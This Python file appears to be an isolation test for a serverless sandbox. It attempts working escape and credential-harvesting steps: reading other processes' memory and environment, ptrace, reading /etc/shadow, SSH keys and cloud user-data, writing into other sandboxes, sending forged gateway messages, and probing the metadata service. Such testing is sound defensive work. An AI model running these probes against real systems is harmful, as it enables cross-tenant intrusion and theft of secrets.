#!/usr/bin/python3
"""A function that tries to get at what is not its own. It answers with everything that it reached and should not have, with
how many things it tried, and with what it could see. As main.py it is a python3 function, as bootstrap a provided one.

Its event: {"gateway": "ADDRESS:PORT", "files": [PATH, ...], "metadata": whether Nova's metadata service must be out of reach}
"""
import ctypes
import errno
import glob
import http.client
import json
import os
import socket
import ssl
import struct

# What should have been refused and was not; what it was told about itself; what else it could see.
REACHED, TOLD, SEEN = {}, [], []
TRIED = 0
REFUSED = {errno.EACCES, errno.EPERM, errno.ENOENT, errno.ESRCH, errno.ENXIO, errno.ENODEV, errno.EROFS, errno.ENOTDIR}


def attempt(name, deed):
    """Runs the deed, which should be refused by the machine; what it gives is reached."""
    global TRIED
    TRIED += 1
    try:
        came = deed()
    except OSError as error:
        if error.errno not in REFUSED:
            REACHED[name] = "not refused but %s" % error
    else:
        # Of a kernel's thread there is nothing to be read.
        if came:
            REACHED[name] = str(came)[:500]


def read(path, size=4096):
    with open(path, "rb", buffering=0) as file:
        return file.read(size).decode("latin-1")


def write(path):
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
    os.close(descriptor)
    return "written"


def owner(process):
    with open("/proc/%d/status" % process) as status:
        for line in status:
            if line.startswith("Uid:"):
                return int(line.split()[1])


def processes():
    libc = ctypes.CDLL(None, use_errno=True)

    def trace(process):
        if libc.ptrace(16, process, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "ptrace")
        return "attached"

    for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
        try:
            if owner(process) == os.getuid():
                continue
            SEEN.append(read("/proc/%d/cmdline" % process))
        except OSError:
            continue  # It has ended, or is not even seen.
        for file in ("environ", "mem", "maps", "auxv", "stack", "syscall"):
            attempt("%s of process %d" % (file, process), lambda: read("/proc/%d/%s" % (process, file), 64))
        for link in ("cwd", "root", "exe"):
            attempt("%s of process %d" % (link, process), lambda: os.readlink("/proc/%d/%s" % (process, link)))
        attempt("files of process %d" % process, lambda: os.listdir("/proc/%d/fd" % process))
        attempt("tracing of process %d" % process, lambda: trace(process))
        attempt("killing of process %d" % process, lambda: os.kill(process, 0) or "could be")


def files(named):
    agent = os.path.dirname(os.environ["LAMBDA_RUNTIME_DIR"])
    own = os.environ["HOME"]
    # The agent's directory, the other sandboxes', the packages of others.
    for path in ("", "sandboxes", "packages"):
        attempt("list of %s" % path, lambda: os.listdir(os.path.join(agent, path)))
        attempt("writing in %s" % path, lambda: write(os.path.join(agent, path, "probe")))
    for file in ("agent.json", "lock"):
        attempt(file, lambda: read(os.path.join(agent, file)))
    for number in range(1, 65):
        sandbox = os.path.join(agent, "sandboxes", str(number))
        if own != sandbox and not own.startswith(sandbox + "/"):
            attempt("list of sandbox %d" % number, lambda: os.listdir(sandbox))
            attempt("writing in sandbox %d" % number, lambda: write(os.path.join(sandbox, "probe")))
    for path in (os.environ["LAMBDA_TASK_ROOT"], os.environ["LAMBDA_RUNTIME_DIR"], "/usr/bin", "/etc", "/usr/lib/python3.11"):
        attempt("writing in %s" % path, lambda: write(os.path.join(path, "probe")))
    # What a machine keeps for root: disks, memory, kernel, a config drive, the credentials of services.
    for path in glob.glob("/dev/sr*") + glob.glob("/dev/vd*") + glob.glob("/dev/sd*") + [
        "/dev/mem", "/dev/kmsg", "/dev/fuse", "/proc/kcore", "/etc/shadow", "/proc/1/environ", "/proc/sysrq-trigger",
        "/run/config/openstack/latest/user_data", "/config/openstack/latest/user_data", "/run/network",
        "/var/lib/cloud/instance/user-data.txt", "/root/.ssh/id_rsa", "/var/run/docker.sock", "/run/docker.sock",
    ] + named:  # fmt: skip
        if not os.path.isdir(path):
            attempt(path, lambda: read(path))
    TOLD.extend([repr(dict(os.environ)), read("/proc/self/mountinfo", 1 << 20), read("/proc/cmdline")])
    for directory in ("/run", "/tmp", "/var/tmp", "/dev/shm", "/mnt", "/media"):
        for root, _, names in os.walk(directory):
            for name in names[:100]:
                try:
                    if os.path.isfile(os.path.join(root, name)) and len(SEEN) < 500:
                        SEEN.append(read(os.path.join(root, name)))
                except OSError:
                    pass


def ask(address, message, tls):
    """Says hello to a gateway; what it answers."""
    connection = socket.create_connection(address, timeout=10)
    with connection:
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            connection = context.wrap_socket(connection)
        header = json.dumps({"s": 0, "a": 0, "m": message}).encode()
        connection.sendall(struct.pack(">II", 4 + len(header), len(header)) + header)
        answer = b""
        while len(answer) < 8 or len(answer) < 4 + struct.unpack(">I", answer[:4])[0]:
            more = connection.recv(65536)
            if not more:
                break
            answer += more
        return answer.decode("latin-1")


def gateway(text):
    global TRIED
    host, _, port = text.rpartition(":")
    instance = os.environ["LAMBDA_SANDBOX_ID"]
    hello = {"t": "hello", "version": 1, "received": 0}
    tries = [{"t": "hello_caller", "version": 1, "secret": secret} for secret in ("", "0" * 64)]
    for name in {instance, instance[:36], instance.rpartition("-")[0], "00000000-0000-4000-8000-000000000000"}:
        for credential in ({"token": ""}, {"token": "0" * 64}, {"session": ""}, {"session": "0" * 64}):
            tries.append(dict(hello, instance=name, credential=credential))
    tries += [{"t": "fetch_package", "sha256": "0" * 64}, {"t": "nudge"}, {"t": "shutdown"}]
    for message in tries:
        for tls in (False, True):
            TRIED += 1
            try:
                answer = ask((host.strip("[]"), int(port)), message, tls)
            except OSError as error:
                SEEN.append("the gateway: %s" % error)
                continue
            SEEN.append(answer)
            if answer and '"refused"' not in answer:
                REACHED["gateway, %s, %s" % (tls, json.dumps(message))] = answer[:200]


def network(metadata):
    global TRIED
    # The Runtime APIs of others, and whatever else listens on this machine.
    own = os.environ["AWS_LAMBDA_RUNTIME_API"]
    with open("/proc/net/tcp") as table:
        listening = {line.split()[1] for line in table if line.split()[3] == "0A"}
    for place in listening:
        address, port = place.split(":")
        address = "127.0.0.1" if address == "00000000" else socket.inet_ntoa(struct.pack("=I", int(address, 16)))
        if "%s:%d" % (address, int(port, 16)) == own:
            continue
        TRIED += 1
        connection = http.client.HTTPConnection(address, int(port, 16), timeout=3)
        try:
            connection.request("GET", "/2018-06-01/runtime/invocation/next")
            answer = connection.getresponse()
            if answer.getheader("Lambda-Runtime-Aws-Request-Id"):
                REACHED["a Runtime API at %s" % place] = answer.read().decode("latin-1")
        except (OSError, http.client.HTTPException):
            pass
    if metadata:
        for address in ("169.254.169.254", "fe80::a9fe:a9fe%eth0"):
            TRIED += 1
            try:
                socket.create_connection((address, 80), timeout=3).close()
                REACHED["the metadata service at %s" % address] = "connected"
            except OSError as error:
                SEEN.append("metadata: %s" % error)


def handler(event, context):
    global TRIED
    for kept in (REACHED, TOLD, SEEN):
        kept.clear()
    TRIED = 0
    processes()
    files(event.get("files", []))
    if event.get("gateway"):
        gateway(event["gateway"])
    network(event.get("metadata", False))
    return {"reached": REACHED, "tried": TRIED, "told": TOLD, "seen": SEEN, "uid": os.getuid()}


def serve():
    connection = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"])
    while True:
        connection.request("GET", "/2018-06-01/runtime/invocation/next")
        response = connection.getresponse()
        event = json.loads(response.read())
        path = "/2018-06-01/runtime/invocation/%s/response" % response.headers["Lambda-Runtime-Aws-Request-Id"]
        connection.request("POST", path, json.dumps(handler(event, None)))
        connection.getresponse().read()


if __name__ == "__main__":
    serve()
